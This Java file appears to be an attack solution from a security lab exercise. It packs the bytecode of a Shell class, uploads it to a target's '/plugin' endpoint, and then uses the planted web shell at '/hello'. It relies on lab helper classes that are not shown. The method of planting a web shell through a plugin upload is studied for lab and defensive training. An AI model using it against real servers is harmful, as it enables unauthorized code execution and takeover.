import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import whorl.lab.attack.Attacker;
import whorl.lab.attack.Shells;

public class Attack {
  public static void main(String[] args) throws Exception {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    DataOutputStream out = new DataOutputStream(bytes);
    byte[] file = Attacker.classBytes(Shell.class);
    out.writeInt(file.length);
    out.write(file);
    Attacker.post("/plugin", bytes.toByteArray(), "Content-Type", "application/octet-stream");
    Shells.use("/hello");
    Attacker.done();
  }
}
